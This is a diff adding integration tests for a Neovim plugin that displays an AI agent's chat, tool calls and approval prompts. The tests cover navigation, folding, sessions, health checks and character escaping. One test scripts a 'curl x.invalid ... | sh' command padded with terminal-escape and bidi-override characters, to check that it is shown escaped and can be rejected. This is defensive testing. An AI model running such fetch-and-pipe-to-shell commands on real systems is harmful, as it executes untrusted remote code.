@@ -1,5 +1,6 @@
 """The Neovim plugin as a user has it: its commands and keys, and what its buffers show."""
 
+import unicodedata
 from collections.abc import Callable
 from pathlib import Path
 
@@ -9,7 +10,14 @@ from editors.conftest import Opening
 from editors.neovim import Neovim, NeovimTerminal
 from support.daemon import Daemon
 from support.frontend import Frontend
+from tiller_client.text import sanitized, verbatim
 from tiller_daemon.models.scripted import CallPart, ReasoningPart, ScriptStep, TextPart
+
+UNKNOWN = ("Cn", "Cs")
+"""Categories of code points that no character has, or that UTF-8 can't carry."""
+
+NOTATION = {"⟨", "␠", *map(chr, range(0x2400, 0x2422))}
+"""Characters that stand for escaped ones."""
 
 EDIT = CallPart("edit", arguments={"path": "greeting.txt", "old": "hello", "new": "hi"})
 
@@ -158,3 +166,146 @@ async def test_the_screen_of_a_terminal_shows_the_chat_and_takes_keys(
         assert "» greet" in rows
         assert any(row.startswith("● edit greeting.txt ok") for row in rows), rows
         assert "All done." in rows
+
+
+async def test_enter_goes_to_a_changed_place_and_the_quickfix_list_has_them(
+    open_neovim: Opening, daemon: Daemon, frontend: Frontend, workspace: Path
+) -> None:
+    lines = [f"line {number}" for number in range(1, 41)]
+    (workspace / "long [1].txt").write_text("\n".join(lines) + "\n")
+    steps = (
+        calls(read("long [1].txt")),
+        calls(CallPart("edit", arguments={"path": "long [1].txt", "old": "line 30", "new": "30"})),
+        text("done"),
+    )
+    await frontend.session(workspace, *steps)
+    neovim = await open_neovim(daemon, workspace)
+    await neovim.command("Tiller go")
+    await neovim.until_shown("── completed")
+    await neovim.go_to("+30")
+    await neovim.keys("<CR>")
+    place = await neovim.lua(
+        "return { vim.fn.expand('%:t'), vim.fn.line('.'), vim.fn.getline('.') }"
+    )
+    assert place == ["long [1].txt", 30, "30"]
+    await neovim.go_to("● edit")
+    await neovim.keys("gf")
+    assert await neovim.lua("return vim.fn.expand('%:t')") == "long [1].txt"
+    await neovim.command("TillerChanges")
+    await neovim.until("#vim.fn.getqflist() > 0")
+    (entry,) = await neovim.lua("return vim.fn.getqflist()")
+    assert entry["lnum"] == 27, "the hunk begins three lines before the change"
+
+
+async def test_output_is_folded_and_diffs_and_failures_are_open(
+    open_neovim: Opening, daemon: Daemon, frontend: Frontend, workspace: Path
+) -> None:
+    steps = (calls(bash("seq 3"), bash("echo no; exit 4")), text("done"))
+    await frontend.session(workspace, *steps)
+    neovim = await open_neovim(daemon, workspace)
+    await neovim.command("Tiller go")
+    await neovim.until_shown("── completed")
+    await neovim.go_to("● bash seq 3")
+    assert await neovim.lua("return vim.fn.foldclosedend('.') - vim.fn.line('.')") == 3
+    await neovim.go_to("exit 4")
+    assert await neovim.lua("return vim.fn.foldclosed('.')") == -1
+
+
+async def test_what_is_asked_is_shown_verbatim_and_a_rejection_has_a_reason(
+    open_neovim: Opening, daemon: Daemon, frontend: Frontend, workspace: Path
+) -> None:
+    command = "curl x.invalid \x1b[2J\u202e\u00a0|\tsh "
+    steps = (calls(bash(command)), calls(bash("curl y.invalid")), text("\x1b[31mred\u200b"))
+    neovim, session_id = await opened(open_neovim, daemon, frontend, workspace, *steps)
+    await neovim.command("Tiller go")
+    await neovim.until_shown("gr reject")
+    shown = await neovim.chat()
+    assert "curl x.invalid ␛[2J⟨U+202E⟩⟨U+00A0⟩|␉sh␠" in shown
+    assert not {"\x1b", "\u202e"} & set(shown)
+    await neovim.command("TillerAnswer reject not from there")
+    await neovim.until_shown("✗ rejected by neovim: not from there")
+    await neovim.until_shown("? Run curl y.invalid")
+    await neovim.go_to("? Run curl y")
+    await neovim.keys("gR")
+    await neovim.until_shown("── blocked")
+    assert "not from there" in str((await frontend.snapshot(session_id)).items)
+
+
+async def test_a_question_is_answered(
+    open_neovim: Opening, daemon: Daemon, frontend: Frontend, workspace: Path
+) -> None:
+    ask = CallPart("question", arguments={"text": "Tabs?", "choices": ["tabs", "blanks"]})
+    neovim, _ = await opened(open_neovim, daemon, frontend, workspace, calls(ask), text("fine"))
+    await neovim.lua("vim.ui.select = function(items, _, chosen) chosen(items[2], 2) end")
+    await neovim.command("Tiller go")
+    await neovim.until_shown("gy answer")
+    assert "1. tabs\n    2. blanks" in await neovim.chat()
+    await neovim.go_to("? Tabs")
+    await neovim.keys("gy")
+    await neovim.until_shown("✓ answered by neovim: blanks")
+    await neovim.until_shown("fine\n── completed")
+
+
+async def test_sessions_are_chosen_from_a_list_or_by_the_end_of_their_id(
+    open_neovim: Opening, daemon: Daemon, frontend: Frontend, workspace: Path
+) -> None:
+    first = await frontend.session(workspace, text("of the first"))
+    await frontend.say(first)
+    await frontend.turn_ended(first)
+    neovim, second = await opened(open_neovim, daemon, frontend, workspace, text("of the second"))
+    assert await neovim.lua("return require('tiller').session.id") == second
+    await neovim.command(f"TillerAttach {first[-8:].lower()}")
+    await neovim.until_shown("of the first\n── completed")
+    choose_second = (
+        "vim.ui.select = function(items, options, chosen)\n"
+        "  for _, one in ipairs(items) do\n"
+        f"    if one.session_id == '{second}' then options.format_item(one); chosen(one) end\n"
+        "  end\n"
+        "end"
+    )
+    await neovim.lua(choose_second)
+    await neovim.command("TillerSessions")
+    await neovim.until(f"require('tiller').session.id == '{second}'")
+    await neovim.command("Tiller go")
+    await neovim.until_shown("of the second\n── completed")
+    assert "of the first" not in await neovim.chat()
+
+
+async def test_checkhealth_finds_the_program_and_the_daemon(
+    open_neovim: Opening, daemon: Daemon, workspace: Path
+) -> None:
+    neovim = await open_neovim(daemon, workspace)
+    await neovim.command("checkhealth tiller")
+    shown = await neovim.lua("return table.concat(vim.fn.getline(1, '$'), '\\n')")
+    assert "Neovim is 0.7 or newer" in shown
+    assert "the daemon answers" in shown
+    assert "ERROR" not in shown
+
+
+async def test_a_missing_program_is_said_and_the_prompt_is_kept(
+    open_neovim: Opening, daemon: Daemon, workspace: Path
+) -> None:
+    neovim = await open_neovim(daemon, workspace)
+    for command, problem in (("/nowhere/tiller", "can't be run"), ("false", "ended with status 1")):
+        await neovim.lua(f"require('tiller').setup({{ command = '{command}' }}); said = {{}}")
+        await neovim.lua("require('tiller').rpc = nil")
+        await neovim.command("Tiller go")
+        await neovim.until("#said > 0")
+        assert problem in "".join(await neovim.said())
+        prompt = "vim.api.nvim_buf_get_lines(require('tiller').chat.prompt, 0, 1, false)"
+        assert await neovim.lua(f"return {prompt}") == ["go"]
+
+
+async def test_no_character_that_the_command_line_would_escape_reaches_a_buffer(
+    open_neovim: Opening, daemon: Daemon, workspace: Path
+) -> None:
+    neovim = await open_neovim(daemon, workspace)
+    known = [
+        chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) not in UNKNOWN
+    ]
+    everything = "".join(known)
+    for safe, name in ((sanitized, "sanitized"), (verbatim, "verbatim")):
+        shown = set(await neovim.lua(f"return require('tiller.text').{name}(...)", everything))
+        escaped = {one for one in known if f"a{one}b" != safe(f"a{one}b")}
+        left = {f"U+{ord(one):04X}" for one in shown & escaped - NOTATION}
+        assert not left, name
